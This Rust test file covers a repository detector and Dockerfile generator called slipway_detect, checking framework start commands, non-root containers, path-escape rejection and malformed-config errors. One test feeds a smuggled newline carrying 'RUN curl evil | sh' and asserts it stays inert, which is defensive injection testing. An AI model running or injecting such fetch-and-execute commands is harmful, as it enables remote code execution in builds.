//! Every fixture repository under `tests/fixtures` against its reviewed snapshot of the full
//! plan (or the exact error). `cargo insta review` after a deliberate change.

use std::path::Path;

use slipway_detect::dockerfile::{BaseImages, GenerateError, generate};
use slipway_detect::{Options, Provider, detect};

#[test]
fn every_fixture_repository_gets_its_full_plan_or_a_clear_error() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut names: Vec<String> = std::fs::read_dir(&root)
        .expect("fixtures dir")
        .flatten()
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 40, "the fixture table is complete: {names:?}");
    for name in names {
        let outcome = match detect(&root.join(&name), &Options::default()) {
            Ok(plan) => serde_json::to_value(plan).expect("plan serializes"),
            Err(err) => serde_json::json!({ "error": err.to_string() }),
        };
        insta::assert_json_snapshot!(name, outcome);
    }
}

#[test]
fn the_app_root_selects_one_app_of_a_monorepo() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/monorepo");
    let plan = detect(&root, &Options { app_root: Some("apps/api".into()), ..Default::default() }).expect("go app");
    assert_eq!(plan.provider.as_str(), "go");
    assert_eq!(plan.app_root, "apps/api");
    for bad in ["../escape", "/etc", "apps/../../x", "missing"] {
        let err = detect(&root, &Options { app_root: Some(bad.into()), ..Default::default() }).expect_err(bad);
        assert!(err.to_string().contains("app root"), "{bad}: {err}");
    }
}

#[test]
fn a_dockerfile_is_used_unless_told_otherwise() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/dockerfile");
    assert_eq!(detect(&root, &Options::default()).expect("plan").provider.as_str(), "dockerfile");
    let plan = detect(&root, &Options { ignore_dockerfile: true, ..Default::default() }).expect("plan");
    assert_eq!(plan.provider.as_str(), "node");
}

#[test]
fn generated_dockerfiles_are_cache_friendly_non_root_and_reviewed() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut names: Vec<String> = std::fs::read_dir(&root)
        .expect("fixtures")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let images = BaseImages::default();
    let mut generated = 0;
    for name in names {
        let Ok(plan) = detect(&root.join(&name), &Options::default()) else { continue };
        if plan.provider == Provider::Dockerfile {
            continue;
        }
        let text = match generate(&plan, &images) {
            Ok(text) => text,
            Err(GenerateError::NoStart) => format!("error: {}", GenerateError::NoStart),
            Err(other) => panic!("{name}: {other}"),
        };
        if !text.starts_with("error:") {
            generated += 1;
            let final_stage = text.rsplit("\nFROM ").next().expect("a final stage");
            assert!(final_stage.contains("\nUSER 10001:10001\n"), "{name}: the final stage runs as non-root\n{text}");
            if let (Some(deps), Some(source)) = (text.find("\nCOPY [\""), text.find("\nCOPY . .")) {
                assert!(deps < source, "{name}: dependency manifests are copied before the source");
            }
            for (key, value) in &plan.env {
                assert!(text.contains(&format!("ENV {key}=")), "{name}: plan env {key}={value} is set");
            }
        }
        insta::assert_snapshot!(format!("{name}-dockerfile"), text);
    }
    assert!(generated >= 25, "{generated} Dockerfiles generated");
}

#[test]
fn base_images_are_configurable_and_checked() {
    let images = BaseImages::with_overrides(
        "node=registry.example.com/node:{version}, static-run=registry.example.com/busybox:1",
    )
    .expect("valid overrides");
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let plan = detect(&root.join("node-npm"), &Options::default()).expect("plan");
    let text = generate(&plan, &images).expect("dockerfile");
    assert!(text.starts_with("# Generated") && text.contains("FROM registry.example.com/node:20 AS deps"), "{text}");
    for bad in ["node", "cobol=x", "node=a b", "=x"] {
        assert_eq!(BaseImages::with_overrides(bad), Err(GenerateError::BadBaseImages(bad.trim().to_string())), "{bad}");
    }
}

#[test]
fn a_hostile_command_cannot_add_a_dockerfile_instruction() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut plan = detect(&root.join("node-npm"), &Options::default()).expect("plan");
    plan.start = Some(slipway_detect::Fact::new("node x\nRUN curl evil | sh".into(), &["test"]));
    let text = generate(&plan, &BaseImages::default()).expect("dockerfile");
    assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
    assert!(text.contains(r#"CMD ["/bin/sh","-c","exec node x\nRUN curl evil | sh"]"#), "{text}");
}

/// What was found wrong, by class, each with a fixture of its own: the plan must be what
/// production runs (`start`), or the static directory a production server serves, and say why.
#[test]
fn each_class_found_gets_the_production_plan() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    // (fixture, provider, framework, start, static_dir)
    type Case<'a> = (&'a str, &'a str, Option<&'a str>, Option<&'a str>, Option<&'a str>);
    let cases: &[Case] = &[
        // Development servers in production.
        ("node-cra", "node", Some("react-scripts"), None, Some("build")),
        ("node-angular", "node", Some("angular"), None, Some("dist/shop/browser")),
        ("node-expo", "node", Some("expo"), None, Some("dist")),
        ("node-next-export", "node", Some("next"), None, Some("out")),
        // `next start` does not serve a standalone build.
        ("node-next-standalone", "node", Some("next"), Some("node .next/standalone/server.js"), None),
        // Server-rendered apps are servers, not a dist folder.
        ("node-sveltekit", "node", Some("sveltekit"), Some("node build"), None),
        ("node-remix", "node", Some("react-router"), Some("npm run start"), None),
        ("node-nuxt", "node", Some("nuxt"), Some("node .output/server/index.mjs"), None),
        // No start command before.
        ("node-bun-ts", "node", None, Some("bun run index.ts"), None),
        ("python-framework-prefix", "python", Some("flask"), Some("gunicorn app:app --bind 0.0.0.0:$PORT"), None),
        (
            "python-pyproject-inline",
            "python",
            Some("fastapi"),
            Some("uvicorn main:app --host 0.0.0.0 --port $PORT"),
            None,
        ),
        ("python-main-only", "python", None, Some("python main.py"), None),
        (
            "python-streamlit",
            "python",
            Some("streamlit"),
            Some("streamlit run app.py --server.port $PORT --server.address 0.0.0.0 --server.headless true"),
            None,
        ),
        // The package manager the project says, without a lockfile.
        ("node-engines-pnpm", "node", Some("fastify"), Some("pnpm run start"), None),
        ("node-bun-scripts", "node", None, Some("bun run start"), None),
        // Not recognised before.
        ("go-no-mod", "go", None, Some("/app/app"), None),
        ("go-work", "go", None, Some("/app/app"), None),
        ("deno-ts-only", "deno", None, Some("deno run --allow-net --allow-env --allow-read main.ts"), None),
        ("deno-jsonc-comments", "deno", None, Some("deno task start"), None),
        ("static-staticfile", "static", None, None, Some("site")),
        ("dotnet-fsharp", "dotnet", Some("aspnetcore"), Some("dotnet /app/Api.dll"), None),
        ("node-package-json5", "node", Some("express"), Some("npm run start"), None),
        ("java-gradle-multi", "java", Some("spring-boot"), Some("java -Dserver.port=$PORT -jar /app/app.jar"), None),
        (
            "java-maven-quarkus",
            "java",
            Some("quarkus"),
            Some("java -Dquarkus.http.host=0.0.0.0 -Dquarkus.http.port=$PORT -jar /app/app.jar"),
            None,
        ),
        // Frameworks whose plan was right already, kept by a fixture each.
        ("node-astro-node", "node", Some("astro"), Some("node ./dist/server/entry.mjs"), None),
        ("node-astro-static", "node", Some("astro"), None, Some("dist")),
        ("node-nestjs", "node", Some("nestjs"), Some("npm run start:prod"), None),
        ("node-tanstack-start", "node", Some("tanstack-start"), Some("npm run start"), None),
        // Languages misread: the backend, not its assets' package.json.
        ("ruby-rails-assets", "ruby", Some("rails"), Some("bundle exec rails server -b 0.0.0.0 -p $PORT"), None),
        ("php-laravel-vite", "php", Some("laravel"), None, None),
        ("ruby-rails-api", "ruby", Some("rails"), Some("bundle exec rails server -b 0.0.0.0 -p $PORT"), None),
    ];
    for (name, provider, framework, start, static_dir) in cases {
        let plan = detect(&root.join(name), &Options::default()).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(plan.provider.as_str(), *provider, "{name}");
        assert_eq!(plan.framework.as_ref().map(|f| f.value.as_str()), *framework, "{name}");
        if start.is_some() || static_dir.is_some() {
            assert_eq!(plan.start.as_ref().map(|f| f.value.as_str()), *start, "{name}: start");
        }
        assert_eq!(plan.static_dir.as_ref().map(|f| f.value.as_str()), *static_dir, "{name}: static");
        if let Some(start) = &plan.start {
            assert!(!start.from.is_empty(), "{name}: the start says which files decided it");
        }
    }
    let cra = detect(&root.join("node-cra"), &Options::default()).expect("plan");
    assert!(
        cra.notes.iter().any(|n| n.contains("react-scripts start") && n.contains("development server")),
        "{:?}",
        cra.notes
    );
    let pnpm = detect(&root.join("node-engines-pnpm"), &Options::default()).expect("plan");
    assert_eq!(pnpm.install.map(|i| i.value).as_deref(), Some("pnpm install"), "no lockfile to freeze to");
    let stale = detect(&root.join("node-stale-lock"), &Options::default()).expect("plan");
    assert_eq!(stale.install.map(|i| i.value).as_deref(), Some("npm ci"), "the lockfile is the contract");
    assert!(stale.notes.iter().any(|n| n.contains("zod is not in the lockfile")), "{:?}", stale.notes);
    // Rust: a dependency layer built from the manifests with stubbed sources, so a source change
    // rebuilds only the workspace's own crates (checked by hand with cargo: see the closing note).
    let rust = detect(&root.join("rust-workspace"), &Options::default()).expect("plan");
    let install = rust.install.map(|i| i.value).unwrap_or_default();
    assert!(
        install.contains("'crates/api/src/main.rs' 'crates/core/src/lib.rs'")
            && install.contains("cargo build --release"),
        "{install}"
    );
    assert!(rust.dependency_files.contains(&"crates/core/Cargo.toml".to_string()), "{:?}", rust.dependency_files);
    assert!(rust.build.is_some_and(|b| b.value.starts_with("touch 'crates/api/src/main.rs'")));
    let gradle = detect(&root.join("java-gradle-multi"), &Options::default()).expect("plan");
    assert_eq!(gradle.build.map(|b| b.value).as_deref(), Some("./gradlew --no-daemon :api:bootJar"));
    assert_eq!(gradle.artifact.map(|a| a.value).as_deref(), Some("api/build/libs/*.jar"));
    assert!(gradle.dependency_files.contains(&"core/build.gradle.kts".to_string()), "{:?}", gradle.dependency_files);
    let quarkus = detect(&root.join("java-maven-quarkus"), &Options::default()).expect("plan");
    assert!(quarkus.build.is_some_and(|b| b.value.ends_with("-Dquarkus.package.jar.type=uber-jar")));
    assert_eq!(quarkus.artifact.map(|a| a.value).as_deref(), Some("target/*-runner.jar"), "one runnable jar");
    let api = detect(&root.join("ruby-rails-api"), &Options::default()).expect("plan");
    assert!(api.build.is_none(), "an API-only Rails app precompiles no assets");
    let rails = detect(&root.join("ruby-rails-assets"), &Options::default()).expect("plan");
    assert!(rails.build.is_some_and(|b| b.value.contains("assets:precompile")));
    assert!(rails.notes.iter().any(|n| n.contains("package.json")), "{:?}", rails.notes);
}

#[test]
fn hostile_jsonc_and_json5_are_short_clear_errors() {
    let dir = std::env::temp_dir().join(format!("slipway-detect-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(dir.join("main.ts"), "Deno.serve(() => new Response('ok'));").expect("entry");
    let deep = format!("{{\"tasks\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    for (file, text) in [
        ("deno.jsonc", deep.as_str()),
        ("deno.jsonc", "{ \"tasks\": { , } }"),
        ("deno.jsonc", "/* never closed"),
        ("deno.jsonc", "\u{0}\u{1}"),
    ] {
        std::fs::write(dir.join(file), text).expect("write");
        let err = detect(&dir, &Options::default()).expect_err(file).to_string();
        assert!(err.starts_with("deno.jsonc:") && err.len() < 300, "{}", &err[..err.len().min(400)]);
    }
    std::fs::remove_file(dir.join("deno.jsonc")).expect("rm");
    std::fs::write(dir.join("package.json5"), "{ name: 'x', scripts: { start: ").expect("write");
    let err = detect(&dir, &Options::default()).expect_err("json5").to_string();
    assert!(err.starts_with("package.json5:") && err.len() < 300, "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}
